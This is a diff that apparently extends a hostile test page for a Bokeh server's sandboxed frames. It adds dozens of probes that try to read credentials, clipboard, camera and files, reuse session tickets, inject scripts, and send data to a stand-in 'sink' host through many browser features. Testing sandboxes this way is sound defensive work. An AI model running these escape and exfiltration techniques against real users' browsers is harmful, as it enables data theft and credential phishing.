@@ -22,6 +22,7 @@ const style = (text) => {
   element.textContent = text
   document.body.append(element)
 }
+const here = new URL(location.href).origin
 const body = JSON.stringify({title: "made by a hostile document"})
 const {ticket} = bokeh_server_session
 const attempts = {
@@ -146,6 +147,133 @@ const attempts = {
   dialog: () => { if (confirm("Your password, please") || prompt("password")) return got("a dialog") },
   peer: () => got(new RTCPeerConnection({iceServers: [{urls: `stun:${sink.slice(7)}`}]})),
   full_api: () => got(parent.fetch),
+  // the addresses of the frame's own host, which is another one where frames have theirs
+  frame_host: () => answer(`${here}/bokeh/userinfo/`),
+  frame_host_ticket: () => answer(`${here}/bokeh/doc/${docid}/ticket?kind=frame`),
+  frame_host_image: () => loads("img", {src: `${here}/bokeh/doc/${other}/content`}),
+  spent_ticket: async () => {
+    const {status} = await fetch(`${here}/bokeh/doc/${docid}/content`, {headers: {"Bokeh-Ticket": ticket}})
+    if (status !== 401) return got(status)
+  },
+  spent_socket: () => socket(`${here}/bokeh/doc/${docid}/ws`.replace("http", "ws"), ["bokeh", ticket]),
+  domain: () => { document.domain = location.hostname; return got(document.domain) },
+  referrer: () => { if (document.referrer) return got(document.referrer) },
+  base: () => {
+    document.head.append(Object.assign(document.createElement("base"), {href: sink}))
+    if (document.baseURI.startsWith(sink)) return got(document.baseURI)
+  },
+  other_address: () => { history.pushState(null, "", `${sink}/`); return got(location.href) },
+  locks: async () => got(await navigator.locks.request("x", () => "a lock")),
+  files: async () => got(await navigator.storage.getDirectory()),
+  persist: async () => (await navigator.storage.persist()) && got("space"),
+  buckets: async () => got(await navigator.storageBuckets.open("x")),
+  shared_storage: async () => got(await sharedStorage.set("x", "1")),
+  more_storage: async () => got(await document.requestStorageAccess()),
+  memory: async () => got(await performance.measureUserAgentSpecificMemory()),
+  topics: async () => got(await document.browsingTopics()),
+  private_token: () => answer(sink, {privateToken: {version: 1, operation: "token-request"}}),
+  attribution: () => loads("img", {attributionSrc: `${sink}/attribution`, src: "data:,"}),
+  notify: async () => { if (await Notification.requestPermission() === "granted") return got("granted") },
+  credentials: async () => { if (await navigator.credentials.get({password: true})) return got("a password") },
+  payment: async () => got(await new PaymentRequest([{supportedMethods: `${sink}/pay`}],
+    {total: {label: "x", amount: {currency: "EUR", value: "1"}}}).canMakePayment()),
+  camera: async () => got(await navigator.mediaDevices.getUserMedia({video: true, audio: true})),
+  screen: async () => got(await navigator.mediaDevices.getDisplayMedia()),
+  place: () => new Promise((resolve, reject) => {
+    navigator.geolocation.getCurrentPosition(() => resolve(got("a place")), (error) => reject(new Error(error.message)))
+  }),
+  clipboard: async () => got(await navigator.clipboard.readText()),
+  devices: async () => got(await Promise.any(["usb", "hid", "serial", "bluetooth"].map(
+    async (name) => navigator[name][name === "serial" ? "requestPort" : "requestDevice"]({filters: [], acceptAllDevices: true})))),
+  midi: async () => got(await navigator.requestMIDIAccess()),
+  fonts: async () => got(await queryLocalFonts()),
+  screens: async () => got(await getScreenDetails()),
+  wake: async () => got(await navigator.wakeLock.request("screen")),
+  pointer: async () => { await document.body.requestPointerLock(); return got(document.pointerLockElement) },
+  presentation: async () => got(await new PresentationRequest(`${sink}/present`).getAvailability()),
+  share: async () => got(await navigator.share({url: sink})),
+  protocol: () => { navigator.registerProtocolHandler("web+x", `${server}/%s`); return got("a protocol") },
+  picker: async () => got(await showOpenFilePicker()),
+  saver: async () => got(await showSaveFilePicker()),
+  own_policy: () => {
+    const policy = `img-src 'none'; report-uri ${sink}/report; report-to x`
+    document.head.append(Object.assign(document.createElement("meta"),
+      {httpEquiv: "Content-Security-Policy-Report-Only", content: policy}))
+    document.body.append(Object.assign(document.createElement("img"), {src: "data:,x"}))
+  },
+  import_map: async () => {
+    document.head.append(Object.assign(document.createElement("script"),
+      {type: "importmap", textContent: JSON.stringify({imports: {out: `${sink}/mapped.js`}})}))
+    return got(await import("out"))
+  },
+  inline_script: () => {
+    document.head.append(Object.assign(document.createElement("script"), {textContent: "window.inline_ran = true"}))
+    if (window.inline_ran) return got("an inline script")
+  },
+  script_address: () => {
+    location.href = "javascript:window.address_ran = true"
+    return new Promise((done) => setTimeout(() => done(window.address_ran && got("it ran")), 300))
+  },
+  transform: () => {
+    const parse = (text) => new DOMParser().parseFromString(text, "text/xml")
+    const made = new XSLTProcessor()
+    made.importStylesheet(parse(`<s:stylesheet xmlns:s="http://www.w3.org/1999/XSL/Transform" version="1.0">
+      <s:import href="${sink}/import.xsl"/><s:template match="/"><s:copy-of select="document('${sink}/x.xml')"/>
+      </s:template></s:stylesheet>`))
+    made.transformToFragment(parse("<a/>"), document)
+  },
+  data_worker: () => new Promise((resolve, reject) => {
+    const worker = new Worker("data:text/javascript,postMessage(1)")
+    worker.onmessage = () => resolve(got("a worker"))
+    worker.onerror = () => reject(new Error("no worker"))
+  }),
+  worker_socket: () => new Promise((resolve, reject) => {
+    const address = `${server}/bokeh/doc/${other}/ws`.replace("http", "ws")
+    const worker = new Worker(made("text/javascript", `const made = new WebSocket("${address}", ["bokeh", "${ticket}"])
+      made.onopen = () => postMessage("got open"); made.onerror = () => postMessage("refused")`))
+    worker.onmessage = ({data}) => resolve(data)
+    worker.onerror = () => reject(new Error("no worker"))
+  }),
+  pristine: () => {
+    for (const [name, fields] of [["object", {data: "about:blank"}], ["embed", {src: "about:blank"}],
+      ["iframe", {src: "javascript:1"}], ["iframe", {src: made("text/html", "x")}], ["iframe", {srcdoc: "x"}],
+      ["fencedframe", {}], ["frame", {}], ["portal", {}]]) {
+      const element = Object.assign(document.createElement(name), fields)
+      document.body.append(element)
+      const inside = element.contentWindow ?? element.getSVGDocument?.()?.defaultView
+      if (inside?.RTCPeerConnection) return got(name)
+    }
+  },
+  peer_parts: () => got(new RTCIceTransport()),
+  other_targets: () => {
+    for (const target of ["_top", "_parent", "frame", "_unfencedTop"]) {
+      const form = Object.assign(document.createElement("form"), {action: `${sink}/form`, target})
+      document.body.append(form)
+      form.requestSubmit()
+      if (window.open(`${sink}/open`, target) != null) return got(target)
+    }
+  },
+  more_markup: () => {
+    document.head.insertAdjacentHTML("beforeend", `<link rel="icon" href="${sink}/icon">
+      <link rel="apple-touch-icon" href="${sink}/touch"><link rel="compression-dictionary" href="${sink}/words">
+      <link rel="prerender" href="${sink}/prerender"><link rel="next" href="${sink}/next">
+      <link rel="preload" as="fetch" href="${sink}/fetched"><link rel="search" href="${sink}/search">`)
+    document.body.insertAdjacentHTML("beforeend", `<svg><filter id="f"><feImage href="${sink}/fe"/></filter>
+      <rect filter="url(#f)" width="9" height="9"/><a href="${sink}/a"><animate attributeName="href" to="${sink}/b"/></a>
+      <script href="${sink}/svg.js"></script></svg><img srcset="${sink}/set 2x"><picture><source srcset="${sink}/source">
+      <img src="data:,"></picture><video poster="${sink}/poster"></video><body background="${sink}/old">
+      <table background="${sink}/table"><tr><td>x</table>      <math href="${sink}/math"></math><details open ontoggle="window.inline_ran = true"></details>`)
+    style(`body { list-style: image-set(url(${sink}/s) 1x); shape-outside: url(${sink}/shape);
+      background: -webkit-image-set(url(${sink}/w) 1x) } @namespace url(${sink}/n);
+      @font-face { font-family: y; src: url(${sink}/face) } p { font-family: y } `)
+  },
+  looser_policy: () => {
+    document.head.append(
+      Object.assign(document.createElement("meta"), {httpEquiv: "Content-Security-Policy", content: "default-src *"}),
+      Object.assign(document.createElement("meta"), {name: "referrer", content: "unsafe-url"}),
+      Object.assign(document.createElement("meta"), {httpEquiv: "x-dns-prefetch-control", content: "on"}))
+    return answer(`${sink}/looser`, {mode: "no-cors"})
+  },
 }
 const found = {}
 for (const [name, attempt] of Object.entries(attempts)) {
